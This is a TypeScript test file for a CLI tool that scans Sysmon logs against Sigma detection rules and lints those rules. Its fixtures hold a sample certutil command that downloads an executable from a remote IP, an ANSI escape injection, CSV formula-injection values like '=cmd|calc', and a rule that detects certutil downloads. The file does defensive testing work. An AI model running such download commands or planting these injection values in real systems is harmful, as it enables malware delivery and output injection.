import { mkdir, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { aurora, startCommand } from './aurora-command.ts'
import { temporaryFolder } from './server.ts'

// Offline forensics: log files in, detections out, no server.

const sysmon = (second: number, data: Record<string, string>): string =>
  `${JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: 'WS1',
        TimeCreated: { '#attributes': { SystemTime: `2026-04-08T10:58:0${second}.000000Z` } },
      },
      EventData: data,
    },
  })}\n`

const certutil = sysmon(5, {
  Image: 'C:\\Windows\\System32\\certutil.exe',
  CommandLine: 'certutil -urlcache -f http://203.0.113.9/x.exe \u001b[31m',
})
const notepad = sysmon(1, { Image: 'C:\\Windows\\notepad.exe', CommandLine: '=cmd|calc' })

const rule = (title: string, id: string, level: string, image: string, more = ''): string => `title: ${title}
id: ${id}
status: test
level: ${level}
author: A. Writer
license: CC0-1.0
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\\${image}'
${more}    condition: selection
`
const certutilRule = rule('Download by certutil', '11111111-1111-4111-8111-111111111111', 'high', 'certutil.exe', "        CommandLine|contains: 'urlcache'\n") // prettier-ignore
const notepadRule = rule('Notepad', '22222222-2222-4222-8222-222222222222', 'low', 'notepad.exe')

let folder: string
let rules: string
let log: string

beforeAll(async () => {
  folder = await temporaryFolder()
  rules = join(folder, 'rules')
  log = join(folder, 'sysmon.jsonl')
  await mkdir(join(rules, 'deeper'), { recursive: true })
  await writeFile(join(rules, 'certutil.yml'), certutilRule)
  await writeFile(join(rules, 'deeper', 'notepad.yaml'), notepadRule)
  await writeFile(join(rules, 'old.yml'), notepadRule.replace('status: test', 'status: deprecated'))
  await writeFile(join(rules, 'broken.yml'), certutilRule.replace('contains', 'contain'))
  await writeFile(join(rules, 'README.md'), '# no rule')
  await writeFile(log, certutil + notepad + '{"broken\n')
})
afterAll(async () => await rm(folder, { recursive: true, force: true }))

describe('aurora scan', () => {
  test('a line for each detection, what was read and found beside it, and 3 when something was', async () => {
    const { code, stdout, stderr } = await aurora(['scan', log, '--rules', rules, '--json'])
    const found = stdout.trim().split('\n').map((line) => JSON.parse(line) as unknown) // prettier-ignore
    expect(found).toEqual([
      {
        file: log,
        line: 1,
        time: '2026-04-08T10:58:05.000000Z',
        rule: {
          id: '11111111-1111-4111-8111-111111111111',
          title: 'Download by certutil',
          level: 'high',
          author: 'A. Writer',
          license: 'CC0-1.0',
          tags: ['attack.command-and-control', 'attack.t1105'],
        },
        fields: {
          Image: 'C:\\Windows\\System32\\certutil.exe',
          CommandLine: 'certutil -urlcache -f http://203.0.113.9/x.exe \u001b[31m',
        },
      },
      expect.objectContaining({ line: 2, fields: { Image: 'C:\\Windows\\notepad.exe' } }),
    ])
    expect(code).toBe(3)
    expect(stderr).toMatch(/broken\.yml:\d+:\d+: unknown modifier `contain`; did you mean `contains`\?/)
    expect(stderr).toContain('2 rules of 4 files')
    expect(stderr).toContain('2 events of 1 file, and 1 line that could not be read: 2 detections by 2 rules')
    expect(stderr).toContain('level   high 1, low 1')
    expect(stderr).toContain('tactic  command-and-control 2')
  })

  test('a timeline is in the order of time; a terminal is never steered by what a log says', async () => {
    const { stdout } = await aurora(['scan', log, '--rules', rules, '--timeline'])
    expect(stdout.indexOf('Notepad')).toBeLessThan(stdout.indexOf('Download by certutil'))
    expect(stdout).not.toContain('\u001b[31m')
  })

  test('a table has no formula', async () => {
    const lines = rule('=1+1', '33333333-3333-4333-8333-333333333333', 'low', 'notepad.exe')
    await writeFile(join(folder, 'formula.yml'), lines.replace('title: =1+1', "title: '=1+1'"))
    const { stdout } = await aurora(['scan', log, '--rules', join(folder, 'formula.yml'), '--csv'])
    const [head, row] = stdout.trim().split('\n')
    expect(head).toBe('time,level,title,id,author,license,file,line,fields')
    expect(row).toContain(`"low","'=1+1"`)
  })

  test('graver rules only; nothing found is 0', async () => {
    const high = await aurora(['scan', log, '--rules', rules, '--level', 'high', '--json'])
    expect(high.stdout.trim().split('\n')).toHaveLength(1)
    const critical = await aurora(['scan', log, '--rules', join(rules, 'deeper'), '--source', 'suricata', '--json'])
    expect(critical).toMatchObject({ code: 0, stdout: '' })
  })

  test('several files, compressed, and standard input', async () => {
    await writeFile(join(folder, 'a.jsonl.gz'), gzipSync(certutil))
    const { stdout } = await aurora(['scan', join(folder, 'a.jsonl.gz'), log, '-', '--rules', rules, '--json'], {
      stdin: notepad,
    })
    const found = stdout.trim().split('\n').map((line) => (JSON.parse(line) as { file: string }).file) // prettier-ignore
    expect(found).toEqual([join(folder, 'a.jsonl.gz'), log, log, '-'])
  })

  test('a reader that has seen enough ends it, quietly', async () => {
    await writeFile(join(folder, 'many.jsonl'), certutil.repeat(20_000))
    const running = startCommand(['scan', join(folder, 'many.jsonl'), '--rules', rules, '--quiet'])
    running.child.stdout?.once('data', () => running.child.stdout?.destroy())
    const { code, stderr } = await running.finished
    expect([code, stderr]).toEqual([0, expect.stringMatching(/^(not loaded.*\n)*$/)])
  })

  test.for([
    [['scan'], 'name at least one file', 2],
    [['scan', 'x'], 'name the rules', 2],
    [['scan', 'LOG', '--rules', 'RULES', '--level', 'grave'], 'there is no level "grave"', 2],
    [['scan', 'LOG', '--rules', '/nowhere'], '/nowhere cannot be read', 5],
    [['scan', '/nowhere', '--rules', 'RULES'], '/nowhere cannot be read', 5],
    [['scan', 'LOG', '--rules', 'README'], 'has no rule that can be used', 2],
  ] as const)('%j says: %s', async ([words, message, expected]) => {
    const places: Record<string, string> = { LOG: log, RULES: rules, README: join(rules, 'README.md') }
    const { code, stdout, stderr } = await aurora(words.map((word) => places[word] ?? word))
    expect([code, stdout]).toEqual([expected, ''])
    expect(stderr).toContain(message)
  })
})

describe('aurora rules lint', () => {
  test('every fault with its place and repair; 3 when a rule cannot be used', async () => {
    const { code, stdout, stderr } = await aurora(['rules', 'lint', rules])
    expect(stdout).toMatch(/^error: .*broken\.yml:16:21: unknown modifier `contain`; did you mean `contains`\?$/m)
    expect(stderr).toContain('2 rules of 4 files can be used: 1 error, 0 warnings')
    expect(code).toBe(3)
    const faults = (await aurora(['rules', 'lint', rules, '--json'])).stdout.trim().split('\n').map((line) => JSON.parse(line) as unknown) // prettier-ignore
    expect(faults).toEqual([
      expect.objectContaining({ severity: 'error', line: 16, column: 21, repair: 'did you mean `contains`?' }),
    ])
  })

  test('nothing to say is 0', async () => {
    const { code, stdout } = await aurora(['rules', 'lint', join(rules, 'certutil.yml')])
    expect([code, stdout]).toEqual([0, ''])
  })

  test.for([
    [['rules', 'nothing'], 'there is no "rules nothing"', 2],
    [['rules', 'lint'], 'name a rule file', 2],
    [['rules', 'lint', '/nowhere'], '/nowhere cannot be read', 5],
  ] as const)('%j says: %s', async ([words, message, expected]) => {
    const { code, stderr } = await aurora([...words])
    expect(code).toBe(expected)
    expect(stderr).toContain(message)
  })
})
